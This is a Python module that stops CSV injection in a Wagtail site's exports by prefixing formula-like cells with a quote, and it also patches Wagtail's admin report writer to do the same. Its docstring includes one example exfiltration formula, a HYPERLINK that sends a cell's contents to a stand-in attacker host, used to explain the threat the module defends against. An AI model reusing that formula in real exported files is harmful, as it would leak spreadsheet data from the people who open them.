"""CSV cells that a spreadsheet shows as text, never runs as a formula (CSV injection).

Anyone can put text into our exports: an anonymous survey answer, a page
title a partner editor typed. A cell such as ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")``
becomes a live formula when a coordinator opens the file, and can send the
sheet's other cells away. OWASP's advice (the "CSV Injection" page) is
followed: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading ``'``, which every spreadsheet program reads as
"this is text". Numbers we computed (counts) are left alone.

Why not the ``defusedcsv`` package: its 3.0.0 does not treat a leading tab or
carriage return (both on OWASP's list) and rewrites ``|`` inside cells, so it
would both miss cases and change harmless answers; the rule is five lines.

Every CSV Wegwijs writes goes through here: ``writer`` for our own files
(survey results), and ``protect_admin_exports`` for Wagtail's admin reports,
whose CSV export (the translation report, site history, aging pages, ...)
writes cells as they are (its XLSX export already keeps formulas as text).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# The first characters that make Excel, LibreOffice or Google Sheets evaluate a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a cell that cannot run: text starting like a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, out: Any, **options: Any):
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **options: Any) -> SafeWriter:
    """A CSV writer for every file we export (use it instead of ``csv.writer``)."""
    return SafeWriter(out, **options)


class _NeutralisingDictWriter:
    """A ``csv.DictWriter`` stand-in that neutralises the values of each row it writes."""

    def __init__(self, writer: csv.DictWriter):
        self._writer = writer

    def writerow(self, row: dict[str, Any]) -> Any:
        return self._writer.writerow({key: neutralise(value) for key, value in row.items()})


def protect_admin_exports() -> None:
    """Make the CSV export of every Wagtail admin report neutralise its cells.

    Wagtail's ``SpreadsheetExportMixin.write_csv_row`` hands each value to
    ``csv.DictWriter`` unchanged; there is no setting for it, so its output is
    wrapped once, at start-up (``CmsConfig.ready``). Headings are ours, not
    user input, and stay as they are.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.write_csv_row
    if getattr(original, "neutralises_cells", False):
        return

    def write_csv_row(self, writer, row_dict):
        # Wrap the writer, not the row: cells are neutralised after Wagtail has
        # turned each value (a partner, a date) into its text.
        return original(self, _NeutralisingDictWriter(writer), row_dict)

    write_csv_row.neutralises_cells = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
